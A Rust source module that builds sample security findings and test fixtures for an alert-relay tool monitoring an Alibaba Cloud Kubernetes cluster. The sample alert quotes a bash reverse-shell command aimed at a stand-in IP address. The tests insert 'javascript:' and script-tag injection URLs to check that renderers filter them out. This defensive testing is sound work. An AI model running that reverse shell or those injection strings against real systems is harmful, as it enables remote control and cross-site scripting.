//! Realistic sample payloads for `sasrelay render --sample DOMAIN`, send-test and
//! [`check_template`](super::check_template): an ACK cluster `c-prod` with namespaces, pods,
//! images, CVEs, ATT&CK tactics and console links, at a fixed time so renderings are stable.

use std::collections::BTreeMap;

use time::OffsetDateTime;
use time::macros::datetime;

use crate::event::{Digest, Event, EventKind};
use crate::finding::{
    Detail, Domain, Finding, Host, Kubernetes, Link, LinkKind, Severity, Status, Tactic,
    cluster_url, cve_url, fingerprint,
};

const CLUSTER_ID: &str = "c8f2a5e1d3b4c49b7a0e6d2f1c3b5a7e9";
const CONSOLE: &str = "https://yundun.console.aliyun.com/?p=sas";
const ACK_CONSOLE: &str = "https://cs.console.aliyun.com";

fn at() -> OffsetDateTime {
    datetime!(2024-05-01 08:00:00 UTC)
}

fn detail(name: &str, value: &str) -> Detail {
    Detail {
        name: name.into(),
        value: value.into(),
    }
}

fn base(domain: Domain, id: &str, severity: Severity, title: &str) -> Finding {
    Finding {
        domain,
        id: id.into(),
        fingerprint: fingerprint("prod", domain, &[id]),
        severity,
        native_severity: String::new(),
        status: Status::Active,
        resolution: None,
        native_status: "1".into(),
        title: title.into(),
        description: String::new(),
        alert_type: String::new(),
        kubernetes: Kubernetes {
            cluster_id: Some(CLUSTER_ID.into()),
            cluster_name: Some("c-prod".into()),
            namespace: Some("payments".into()),
            pod: Some("api-7d9f8c6b5-x2k4q".into()),
            container_id: Some("containerd://4f1e9c2b7a".into()),
            container_name: Some("api".into()),
            image: Some("registry.cn-hangzhou.aliyuncs.com/acme/payments-api:1.14.2".into()),
            node: Some("cn-hangzhou.10.0.3.17".into()),
            app: Some("payments-api".into()),
        },
        host: Host {
            instance_id: Some("i-bp1g6zv0ce8oghu7k2vz".into()),
            instance_name: Some("ack-prod-node-03".into()),
            public_ip: None,
            private_ip: Some("10.0.3.17".into()),
            uuid: Some("5b0e4b2c-8a4f-4f3e-9d7a-2f1c3b5a7e90".into()),
            region: Some("cn-hangzhou".into()),
        },
        first_seen: Some(datetime!(2024-05-01 07:58:12 UTC)),
        last_seen: Some(datetime!(2024-05-01 07:59:40 UTC)),
        details: Vec::new(),
        links: vec![
            Link {
                kind: LinkKind::Console,
                label: "Security Center console".into(),
                url: CONSOLE.into(),
            },
            Link {
                kind: LinkKind::Cluster,
                label: format!("ACK cluster {CLUSTER_ID}"),
                url: cluster_url(ACK_CONSOLE, CLUSTER_ID),
            },
        ],
        cves: Vec::new(),
        tactics: Vec::new(),
        source: "prod".into(),
        region: "cn-hangzhou".into(),
        raw: serde_json::Value::Null.into(),
    }
}

fn with_cve(mut f: Finding, cve: &str) -> Finding {
    f.cves.push(cve.into());
    f.links.insert(
        0,
        Link {
            kind: LinkKind::Cve,
            label: cve.into(),
            url: cve_url(cve),
        },
    );
    f
}

fn finding(domain: Domain) -> Finding {
    match domain {
        Domain::Alerts => {
            let mut f = base(domain, "alert:802517", Severity::Critical, "Reverse shell");
            f.native_severity = "serious".into();
            f.alert_type = "Suspicious process".into();
            f.description = "A process in the container opened an interactive shell whose input \
                             and output are redirected to a remote host."
                .into();
            f.details = vec![
                detail("Process path", "/bin/bash"),
                detail("Command line", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
                detail("Parent process", "/usr/local/bin/python3.11 /app/worker.py"),
                detail("User", "www-data"),
                detail("Remote address", "203.0.113.7:4444"),
            ];
            f.tactics = vec![
                Tactic {
                    id: "TA0002".into(),
                    name: "Execution".into(),
                },
                Tactic {
                    id: "TA0011".into(),
                    name: "Command and Control".into(),
                },
            ];
            f.links.push(Link {
                kind: LinkKind::Asset,
                label: "Alert detail".into(),
                url: format!("{CONSOLE}#/dashboard/alarm/detail?id=802517"),
            });
            f
        }
        Domain::Vulnerabilities => {
            let mut f = with_cve(
                base(
                    domain,
                    "vul:119204",
                    Severity::High,
                    "CVE-2024-1086: Linux kernel nf_tables use-after-free",
                ),
                "CVE-2024-1086",
            );
            f.native_severity = "asap".into();
            f.alert_type = "Linux software vulnerability".into();
            f.description = "A use-after-free in the netfilter nf_tables component can be \
                             exploited to achieve local privilege escalation."
                .into();
            f.details = vec![
                detail("Package", "linux-image-5.10.0-26-amd64"),
                detail("Installed version", "5.10.197-1"),
                detail("Fixed version", "5.10.209-2"),
                detail("Path", "/boot/vmlinuz-5.10.0-26-amd64"),
                detail(
                    "Fix command",
                    "apt-get install --only-upgrade linux-image-amd64",
                ),
            ];
            f
        }
        Domain::Baseline => {
            let mut f = base(
                domain,
                "baseline:43011",
                Severity::Medium,
                "Ensure that the --anonymous-auth argument is set to false",
            );
            f.native_severity = "medium".into();
            f.alert_type = "CIS Kubernetes Benchmark".into();
            f.description = "Anonymous requests to the kubelet are allowed; disable them so \
                             every request is authenticated."
                .into();
            f.kubernetes.pod = None;
            f.kubernetes.container_id = None;
            f.kubernetes.container_name = None;
            f.kubernetes.image = None;
            f.kubernetes.app = None;
            f.kubernetes.namespace = None;
            f.details = vec![
                detail("Check", "4.2.1 kubelet --anonymous-auth"),
                detail("Current value", "true"),
                detail("Expected value", "false"),
                detail(
                    "Remediation",
                    "set authentication.anonymous.enabled: false in the kubelet config and restart the kubelet",
                ),
            ];
            f
        }
        Domain::Firewall => {
            let mut f = base(
                domain,
                "firewall:66120",
                Severity::High,
                "Unexpected connection from payments to kube-system",
            );
            f.native_severity = "3".into();
            f.alert_type = "Container firewall: abnormal access".into();
            f.details = vec![
                detail("Source", "payments/api-7d9f8c6b5-x2k4q"),
                detail("Destination", "kube-system/coredns-6d4b75cb6d-9kz2p"),
                detail("Destination port", "TCP 9153"),
                detail("Rule", "deny-cross-namespace"),
                detail("Attempts", "17"),
            ];
            f
        }
    }
}

/// A realistic new finding of `domain` in cluster `c-prod`, observed 2024-05-01T08:00:00Z.
pub fn sample_event(domain: Domain) -> Event {
    Event::about(EventKind::New, finding(domain), 0, "", None, at())
}

/// Action buttons as a sink would mint them for a sample event (`ignore`, `handled`), with
/// tokens that look real; for [`check_template`](super::check_template) and tests.
pub(crate) fn sample_actions() -> Vec<super::ActionButton> {
    ["ignore", "handled"]
        .into_iter()
        .map(|action| super::ActionButton {
            action: action.into(),
            url: format!(
                "https://sasrelay.example.com/act/{action}?t=v1.eyJmIjoiYWxlcnQ6OTE4MjczIn0.Qm9vbXNpZ25lZA&lang=en"
            ),
        })
        .collect()
}

/// The first-start summary of `domain` for source `prod`.
pub fn sample_summary(domain: Domain) -> Event {
    Event::summary("prod", domain, 42, "sample", at())
}

/// A digest of 12 new vulnerabilities in cluster `c-prod` (several severities, namespaces and
/// CVEs), grouped by `cluster`.
pub fn sample_digest() -> Digest {
    let cves = [
        ("CVE-2024-1086", Severity::High, "linux-image-amd64"),
        ("CVE-2023-44487", Severity::High, "golang.org/x/net"),
        ("CVE-2024-3094", Severity::Critical, "xz-utils"),
        ("CVE-2023-4911", Severity::High, "glibc"),
        ("CVE-2024-6387", Severity::High, "openssh-server"),
        ("CVE-2023-38545", Severity::Medium, "curl"),
        ("CVE-2024-2961", Severity::Medium, "glibc"),
        ("CVE-2023-5363", Severity::Medium, "openssl"),
        ("CVE-2024-24790", Severity::Low, "golang stdlib net/netip"),
        ("CVE-2023-29491", Severity::Low, "ncurses"),
        ("CVE-2024-28182", Severity::Medium, "nghttp2"),
        ("CVE-2023-45853", Severity::Low, "zlib"),
    ];
    let namespaces = ["payments", "checkout", "kube-system", "search"];
    let events = cves
        .iter()
        .enumerate()
        .map(|(i, (cve, sev, pkg))| {
            let mut f = with_cve(
                base(
                    Domain::Vulnerabilities,
                    &format!("vul:{}", 119300 + i),
                    *sev,
                    &format!("{cve}: {pkg}"),
                ),
                cve,
            );
            f.kubernetes.namespace = Some(namespaces[i % namespaces.len()].into());
            f.kubernetes.pod = Some(format!("{}-{:x}", namespaces[i % 4], 0x5f3a9 + i * 7919));
            f.details = vec![detail("Package", pkg)];
            Event::about(EventKind::New, f, 0, "", None, at())
        })
        .collect();
    let group = BTreeMap::from([("cluster".to_string(), "c-prod".to_string())]);
    Digest::new("vulnerability-digest", group, events, at())
}

/// The sample actions with three that every renderer must leave out between and after them:
/// a `javascript:` URL, one with a quote and angle brackets, and one over 3000 bytes.
#[cfg(test)]
pub(crate) fn test_actions() -> Vec<super::ActionButton> {
    let act = |action: &str, url: String| super::ActionButton {
        action: action.into(),
        url,
    };
    let mut v = sample_actions();
    v.insert(1, act("fix", "javascript:alert(1)".into()));
    v.push(act(
        "verify",
        "https://sasrelay.example.com/act\"><script>".into(),
    ));
    v.push(act(
        "whitelist",
        format!("https://sasrelay.example.com/act/w?t={}", "Q".repeat(3000)),
    ));
    v
}

/// A sample finding of `domain` whose title, description and 200 detail rows are each 2,000
/// CJK characters, to push every output to its size limit.
#[cfg(test)]
pub(crate) fn huge_event(domain: Domain) -> Event {
    let mut e = sample_event(domain);
    let s = "异".repeat(2000);
    if let Some(f) = e.finding.as_mut() {
        f.title = s.clone();
        f.description = s.clone();
        f.details = (0..200).map(|i| detail(&format!("Row {i}"), &s)).collect();
    }
    e
}

/// Asserts that a rendering shows none of [`test_actions`]' failing actions: neither their
/// URLs (whole or cut) nor their labels.
#[cfg(test)]
pub(crate) fn assert_no_failing_actions(rendered: &str) {
    for bad in [
        "javascript",
        "script>",
        "QQQQ",
        "Fix…",
        "Verify fix…",
        "修复…",
        "Whitelist…",
        "加白名单…",
    ] {
        assert!(!rendered.contains(bad), "{bad} in {rendered}");
    }
}

/// Each language, with the finding's links and without: what the action tests run under.
#[cfg(test)]
pub(crate) fn langs_and_links() -> impl Iterator<Item = (super::Lang, bool)> {
    [super::Lang::En, super::Lang::Zh]
        .into_iter()
        .flat_map(|lang| [(lang, true), (lang, false)])
}
